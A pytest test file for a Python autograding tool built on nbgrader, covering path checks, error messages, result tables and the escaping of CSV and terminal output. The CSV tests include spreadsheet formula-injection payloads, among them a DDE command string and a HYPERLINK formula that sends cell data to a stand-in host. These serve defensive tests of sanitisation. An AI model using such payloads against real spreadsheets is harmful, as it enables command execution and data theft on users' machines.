"""What a teacher types, and what they are told when it is wrong; how results are shown."""

import contextlib
import csv
import io
import os
import re
import sqlite3

import nbformat
import pytest
from conftest import ASSIGNMENT, NOTEBOOK
from nbgrader.api import Gradebook

from autograding import messages
from autograding.__main__ import main
from autograding.course import Course, CourseError
from autograding.messages import inert, plain
from autograding.report.results import Cell, Result, table, write_csv
from autograding.run.progress import Progress
from autograding.stock import plug
from autograding.stock.gradebook import INDEXES, ensure_gradebook


def test_outside_a_course_it_says_where_to_run(tmp_path, monkeypatch, capsys):
    monkeypatch.chdir(tmp_path)
    assert main([ASSIGNMENT]) == 2
    assert "no nbgrader_config.py in" in capsys.readouterr().err


@pytest.mark.parametrize("name, found", [("LSTM [2026]", "[ ]"), ("50%25", "%"), ("what?x=1", "?"), ("$HOME", "$")])
def test_a_path_that_nbgrader_would_misread_is_refused(tmp_path, name, found):
    folder = tmp_path / name
    folder.mkdir()
    (folder / "nbgrader_config.py").write_text("c = get_config()")
    with pytest.raises(CourseError, match=re.escape(f"{name} contains {found}, which nbgrader reads")):
        Course(folder)


@pytest.mark.parametrize("name, refused", [("group [1]", False), ("a?b", True)])
def test_the_path_of_a_class_may_hold_what_only_patterns_are_made_of(toy, name, refused):
    folder = toy.root / name
    folder.mkdir()
    with pytest.raises(CourseError, match=r"contains \?") if refused else contextlib.nullcontext():
        assert Course(toy.root, folder).class_folder == folder


def test_a_csv_goes_through_a_link_and_into_a_pipe(tmp_path):
    target, link, pipe = tmp_path / "target.csv", tmp_path / "link", tmp_path / "pipe"
    target.write_text("old")
    link.symlink_to(target)
    os.mkfifo(pipe)
    reader = os.open(pipe, os.O_RDONLY | os.O_NONBLOCK)
    for place in (link, pipe):
        write_csv([result("ada")], "a", place)
    assert link.is_symlink() and pipe.is_fifo()
    assert target.read_bytes() == os.read(reader, 1 << 16) and b"ada" in target.read_bytes()
    os.close(reader)


def test_an_unknown_assignment_is_answered_with_the_known_ones(toy, capsys):
    assert main(["02_toy"]) == 2
    assert "no assignment 02_toy in solutions; there are: 01_toy" in capsys.readouterr().err


def test_nobody_to_grade_is_an_error(toy, capsys):
    toy.hand_in("ada", toy.solution())
    assert main([ASSIGNMENT, "--student", "b*"]) == 2
    assert f"no submission submitted/b*/{ASSIGNMENT}; handed in by 1" in capsys.readouterr().err


def test_a_broken_configuration_is_not_ignored(toy):
    (toy.root / "nbgrader_config.py").write_text("c = get_config()\nc.no_such = undefined\n")
    with pytest.raises(NameError):
        Course(toy.root)


def test_checks_without_their_three_parts_are_refused(toy):
    checks = toy.root / "toy_course" / "checks.py"
    checks.write_text(checks.read_text().replace("def judge(", "def judged("))
    with pytest.raises(CourseError, match=r"toy_course.checks, named by Autograding.checks, has no judge"):
        _ = Course(toy.root).checks


def test_alembic_is_found_beside_the_interpreter_only_where_it_is_needed(tmp_path, monkeypatch):
    (tmp_path / "bin").mkdir()
    for name in ("python", "alembic"):
        (tmp_path / "bin" / name).write_text("")
        (tmp_path / "bin" / name).chmod(0o755)
    monkeypatch.setattr(plug.sys, "executable", str(tmp_path / "bin" / "python"))
    monkeypatch.setenv("PATH", "/usr/bin")
    plug.put_alembic_on_path()
    assert plug.os.environ["PATH"] == f"{tmp_path / 'bin'}:/usr/bin"
    plug.put_alembic_on_path()
    assert plug.os.environ["PATH"] == f"{tmp_path / 'bin'}:/usr/bin"


def result(student="ada", score=2.0, note="", **more):
    return Result(
        student,
        [Cell("nb", "first", score, 2.0, False), Cell("nb", "second", 0.5, 1.0, False)],
        notes=[note],
        late_penalty=0.0,
        **more,
    )


def test_the_table_folds_long_notes_and_ends_with_the_mean():
    lines = table([result(note="word " * 40), result("bob", 0.0)], width=80).splitlines()
    assert all(len(line) <= 80 for line in lines)
    assert lines[0].split() == ["1", "first", "(2)"]
    assert any(line.split()[:4] == ["ada", "2", "0.5", "2.5/3"] for line in lines)
    assert lines[-2:] == ["Class of 2: mean 1.5 of 3", "Limits held by control groups: 0, by the watcher alone: 0"]
    assert table([]) == "Nobody has been graded."


def test_a_score_that_waits_for_a_person_is_marked():
    waiting = result()
    waiting.cells[1].needs_a_person = True
    assert " 0.5?" in table([waiting])


def test_the_late_penalty_is_taken_off_but_never_below_nothing():
    late = result()
    late.late_penalty = 2.0
    assert late.total == 0.5
    late.late_penalty = 9.0
    assert late.total == 0.0


@pytest.mark.parametrize("name", ["=1+1", "+1", "-1", "@sum", "\tx"])
def test_no_text_is_a_formula_in_a_spreadsheet(tmp_path, name):
    path = tmp_path / "new" / "marks.csv"
    write_csv([result(name, note=name)], "a", path)
    with path.open(newline="") as file:
        (row,) = csv.DictReader(file)
    # A name is printed as it is, but for what moves a terminal.
    assert row["student"] in (f"'{name}", r"\x09x") and row["note"] == f"'{name}" and row["first"] == "2.0"
    assert [p.name for p in path.parent.iterdir()] == ["marks.csv"]


FORMULAS = ["=1+1", "@sum(1)", "+cmd", "-cmd|' /c calc'!A0", '=HYPERLINK("http://there.example/?"&A1)']


@pytest.mark.parametrize("separator", [",", ";", "\t", "|"])
@pytest.mark.parametrize("formula", FORMULAS)
def test_no_part_of_a_text_is_a_formula_whatever_a_spreadsheet_divides_at(tmp_path, separator, formula):
    between = ["{}", "x;{};y", "x,{}", "x\t{}", '"{}"', 'x";{}', "x|{}", "x\n{}"]
    write_csv([result("ada", note=text.format(formula)) for text in between], "a", tmp_path / "marks.csv")
    text = (tmp_path / "marks.csv").read_text(encoding="utf-8")
    assert text.replace('""', '"').count(formula) == len(between)  # nothing of it is lost
    for quoting in (csv.QUOTE_MINIMAL, csv.QUOTE_NONE):
        for row in csv.reader(io.StringIO(text), delimiter=separator, quoting=quoting):
            assert [found for found in row if found.strip(' "').startswith(("=", "+", "-", "@"))] == []


def test_what_is_marked_is_not_taken_for_another_text(tmp_path):
    names = ["=1", "'=1", "''=1", "a;=1", "a;'=1", "a; =1", "a; '=1", "a\x1b", r"a\x1b", "a", "'a"]
    write_csv([result(name) for name in names], "a", tmp_path / "marks.csv")
    with (tmp_path / "marks.csv").open(newline="") as file:
        found = [row["student"] for row in csv.DictReader(file)]
    assert len(set(found)) == len(names) and {"a", "'a"} < set(found)


def test_honest_numbers_are_not_marked(tmp_path):
    note = "double is [ 0. -0. -1.5], expected (1, -2); a - b = c"
    write_csv([result("ada", note=note)], "a", tmp_path / "marks.csv")
    with (tmp_path / "marks.csv").open(newline="") as file:
        assert next(csv.DictReader(file))["note"] == note


def test_a_strangers_text_cannot_move_the_cursor():
    assert plain("a\x1b[31mb\r\nc\u202e") == "a [31mb c"
    assert plain("x" * 300) == "x" * 199 + "…"


def test_progress_says_how_far_how_fast_and_how_long():
    progress = Progress(4, io.StringIO())
    progress.step()
    progress.step(failed=True)
    assert progress.line(60.0) == "2 of 4 graded, 1 failed, 2 a minute, about 60 s left"
    assert progress.stream.getvalue() == ""  # a short run is not commented on


def test_a_language_that_is_missing_is_an_error(monkeypatch):
    monkeypatch.setenv("AUTOGRADING_LANGUAGE", "xx")
    with pytest.raises(FileNotFoundError):
        messages._("none")
    monkeypatch.setenv("AUTOGRADING_LANGUAGE", "en")
    assert messages._("none") == "none"


@pytest.mark.grading
def test_a_new_gradebook_is_the_one_that_nbgrader_would_make(tmp_path):
    ours, theirs = f"sqlite:///{tmp_path / 'ours.db'}", f"sqlite:///{tmp_path / 'theirs.db'}"
    plug.put_alembic_on_path()
    ensure_gradebook(ours)
    ensure_gradebook(ours)  # a second time changes nothing
    Gradebook(theirs).close()

    def dump(name):
        with contextlib.closing(sqlite3.connect(tmp_path / name)) as db:
            schema = {
                row[0].replace("\n", "") for row in db.execute("SELECT sql FROM sqlite_master WHERE sql NOT NULL")
            }
            return schema, db.execute("SELECT version_num FROM alembic_version").fetchall()

    Gradebook(ours).close()  # which adds the course to either
    tables, version = dump("ours.db")
    indexes = {sql for sql in tables if sql.startswith("CREATE INDEX autograding_")}
    assert (tables - indexes, version) == dump("theirs.db")
    # One that nbgrader has made gets them, too: no look-up of a submission's rows reads a whole table.
    ensure_gradebook(theirs)
    with contextlib.closing(sqlite3.connect(tmp_path / "theirs.db")) as db:
        for table, column in INDEXES.values():
            ((*_, plan),) = db.execute(f"EXPLAIN QUERY PLAN SELECT * FROM {table} WHERE {column} = ''")
            assert "USING INDEX" in plan


def test_another_number_of_graded_cells_is_explained(toy, capsys):
    toy.hand_in("ada", toy.solution())
    assert main([ASSIGNMENT, "--jobs", "1"]) == 0
    fewer = toy.solution()
    fewer.cells = [c for c in fewer.cells if c.metadata.get("nbgrader", {}).get("grade_id") != "greet_check"]
    nbformat.write(fewer, toy.root / "solutions" / ASSIGNMENT / NOTEBOOK)
    assert main([ASSIGNMENT, "--jobs", "1"]) == 2
    assert f"nbgrader db assignment remove {ASSIGNMENT} --force" in capsys.readouterr().err
    with Course(toy.root).gradebook() as gradebook:
        gradebook.remove_assignment(ASSIGNMENT)
    assert main([ASSIGNMENT, "--jobs", "1"]) == 0
    assert "4/4" in capsys.readouterr().out


@pytest.mark.parametrize(
    ("name", "shown"),
    [
        ("ada", "ada"),
        (r"\x1b[31m", r"\\x1b[31m"),
        (" é  x ", " é  x "),
        ("\x1b[31m", r"\x1b[31m"),
        ("a\nb\u202e", r"a\x0ab\u202e"),
        ("caf\udce9", r"caf\xe9"),
        ("\ud800\U000e0001", r"\ud800\U000e0001"),
    ],
)
def test_a_name_is_printed_with_codes_for_what_moves_a_terminal(name, shown):
    assert inert(name) == shown and shown.isprintable()
    shown.encode()
    assert plain(name).isprintable()
    plain(name).encode()
